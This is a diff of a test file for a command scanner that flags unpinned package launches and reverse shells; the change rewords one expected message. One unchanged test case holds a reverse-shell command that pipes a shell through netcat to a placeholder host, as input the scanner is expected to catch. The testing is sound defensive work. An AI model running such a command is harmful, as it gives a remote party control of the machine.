@@ -148,7 +148,7 @@ describe('what starts', () => {
     ['a tool of .NET, by its own name', 'dotnet', ['dnx', 'Example.Server'], /unpinned-package: .*Example\.Server/],
     ['a package of Java', 'jbang', ['com.example:server:LATEST'], /unpinned-package: .*com\.example:server/],
     ['a package of bun', 'bun', ['x', '@example/server'], /unpinned-package: .*@example\/server/],
-    ['a package at a range', 'npx', ['-y', '@example/server@^1.0.0'], /unpinned-package: .*not fixed \('\^1\.0\.0'\)/],
+    ['a package at a range', 'npx', ['-y', '@example/server@^1.0.0'], /unpinned-package: .*not exact \('\^1\.0\.0'\)/],
     ['a package of Python at a question', 'uvx', ['example-server@latest'], /unpinned-package/],
     ['a shell on a connection, by an applet', 'sh', ['-c', 'busybox nc h.example 44 -e sh'], /reverse-shell: .* ties/],
     [
